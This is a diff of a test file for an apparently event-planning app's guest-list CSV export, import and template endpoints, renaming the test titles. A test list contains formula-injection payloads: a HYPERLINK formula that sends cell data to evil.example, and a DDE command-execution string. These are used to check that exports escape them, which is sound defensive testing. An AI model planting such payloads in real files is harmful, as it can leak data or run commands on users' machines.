@@ -39,8 +39,8 @@ function imported(guest: WireGuest) {
   return { name, email, phone, party_size, notes, tags, table, external_id, locale, companions };
 }
 
-describe("the export of a guest list", () => {
-  it("is a CSV file to save, which Excel reads as UTF-8", async () => {
+describe("GET /events/{eventId}/guests/export.csv", () => {
+  it("returns a CSV file for download, which Excel reads as UTF-8", async () => {
     const { host, eventId } = await hostWithEvent({ name: "Zoë & Łukasz: the party" });
     await addGuest(host, eventId, { name: "Zoë" });
     const response = await host.api("GET", `/events/${eventId}/guests/export.csv`);
@@ -54,7 +54,7 @@ describe("the export of a guest list", () => {
     expect(text).not.toMatch(/[^\r]\n/);
   });
 
-  it("has every guest once, in the order in which they were added, and no guest of another event", async () => {
+  it("contains every guest of the event once, in the order in which they were added", async () => {
     const { host, eventId } = await hostWithEvent();
     const other = await makeEvent(host);
     await addGuest(host, other.id, { name: "Elsewhere" });
@@ -62,7 +62,7 @@ describe("the export of a guest list", () => {
     expect(rowsOf(await exported(host, eventId)).map(({ name }) => name)).toEqual(["Ada", "Bob", "Cy"]);
   });
 
-  it("has RSVP and check-in, in UTC and in the event's time zone", async () => {
+  it("contains RSVP and check-in, in UTC and in the event's time zone", async () => {
     const { host, eventId } = await hostWithEvent({ timezone: "America/New_York" });
     const guest = await addGuest(host, eventId, {
       name: "Ada",
@@ -107,7 +107,7 @@ describe("the export of a guest list", () => {
     expect(other).toMatchObject({ id: silent.id, email: "", rsvp_response: "", checked_in_at_utc: "", walk_in: "" });
   });
 
-  it("has the answers to the event's questions by their labels, and who comes along by name", async () => {
+  it("contains the answers under the labels of their questions, and the companions by name", async () => {
     const { host, eventId } = await hostWithEvent({ companion_names: "optional" });
     const asked = {
       items: [
@@ -148,7 +148,7 @@ describe("the export of a guest list", () => {
     expect(await importCsv(host, eventId, await exported(host, eventId))).toMatchObject({ imported: 0, skipped: 2 });
   });
 
-  it("is for viewers; a non-member gets 404, an anonymous caller 401", async () => {
+  it("accepts viewers, and returns 404 to a non-member and 401 without a session", async () => {
     const { host, eventId } = await hostWithEvent();
     const [viewer, stranger] = [await signedInHost(), await signedInHost()];
     await addMember(eventId, viewer.id, "viewer");
@@ -159,7 +159,7 @@ describe("the export of a guest list", () => {
     expect((await host.api("GET", `/events/${crypto.randomUUID()}/guests/export.csv`)).status).toBe(404);
   });
 
-  it("of 5,000 guests is one round trip, and reads each of them once", async () => {
+  it("makes one round trip for 5,000 guests, and reads each of them once", async () => {
     const host = await signedInHost({ tier: "business" });
     const { eventId } = await makeEventFixture(host.id, MANY);
     const headers = { Authorization: `Bearer ${host.token}` };
@@ -171,7 +171,7 @@ describe("the export of a guest list", () => {
   });
 });
 
-describe("a formula", () => {
+describe("a formula in an export", () => {
   const FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
@@ -186,7 +186,7 @@ describe("a formula", () => {
    * @promise Guests and their file: `GET /events/{eventId}/guests/export.csv` gives the list back, harmless in a
    *   spreadsheet (ours)
    */
-  it("is escaped in every field that a guest or a host can write", async () => {
+  it("escapes a formula in every field that a guest or a host can write", async () => {
     const { host, eventId } = await hostWithEvent();
     for (const formula of FORMULAS) {
       await addGuest(host, eventId, { name: formula, notes: `first line\n${formula}`, phone: "+442079460000" });
@@ -200,7 +200,7 @@ describe("a formula", () => {
   });
 });
 
-describe("an export that is imported", () => {
+describe("importing an export", () => {
   /** Single-line names of characters that are hard to quote. */
   const hostileText = fc
     .string({
@@ -254,7 +254,7 @@ describe("an export that is imported", () => {
    * @promise Guests and their file: `GET /events/{eventId}/guests/export.csv` gives the list back, harmless in a
    *   spreadsheet (ours)
    */
-  it("changes nothing on its own event, with guests who have no address too; on another it makes the same guests", async () => {
+  it("changes nothing on its own event, and creates the same guests on another event", async () => {
     await fc.assert(
       fc.asyncProperty(fc.array(fitting, { minLength: 1, maxLength: 12 }), async (guests) => {
         const { host, eventId } = await hostWithEvent();
@@ -274,7 +274,7 @@ describe("an export that is imported", () => {
     );
   });
 
-  it("of 5,000 guests with every field, answers and arrivals changes nothing either, nor does a copy of the event", async () => {
+  it("changes nothing with 5,000 guests with every field, RSVPs and arrivals", async () => {
     const host = await signedInHost({ tier: "business" });
     const { eventId } = await makeEventFixture(host.id, MANY);
     const questions = { items: [{ label: "Table", kind: "text", scope: "guest", when: "always", required: false }] };
@@ -315,7 +315,7 @@ describe("an export that is imported", () => {
     expect(await stateOf(copy.id)).toBe(before);
   });
 
-  it("still changes nothing after a spreadsheet has saved it in its own way", async () => {
+  it("changes nothing after a spreadsheet has saved the file in its own format", async () => {
     const { host, eventId } = await hostWithEvent();
     await importCsv(host, eventId, "name,email,phone\nZoë,zoe@example.com,+442079460000\n=1+1,,\n'@x,,\n");
     const rows = Papa.parse<string[]>((await exported(host, eventId)).replace(/^\uFEFF/, "")).data;
@@ -326,12 +326,12 @@ describe("an export that is imported", () => {
   });
 });
 
-describe("the template", () => {
+describe("GET /events/{eventId}/guests/template", () => {
   /**
    * @promise Guests and their file: `GET /events/{eventId}/guests/template` is a file to fill in
    * @spec 4.37 "GET | /template | editor+ | CSV template"
    */
-  it("has the columns that an import reads, and an example that would be imported", async () => {
+  it("returns the columns that an import reads, and an example that can be imported", async () => {
     const { host, eventId } = await hostWithEvent();
     const response = await host.api("GET", `/events/${eventId}/guests/template`);
     expect(response.status).toBe(200);
@@ -347,7 +347,7 @@ describe("the template", () => {
   });
 
   /** @spec 4.37 "GET | /template | editor+ | CSV template" */
-  it("is for editors", async () => {
+  it("rejects a viewer with 403", async () => {
     const { eventId } = await hostWithEvent();
     const viewer = await signedInHost();
     await addMember(eventId, viewer.id, "viewer");
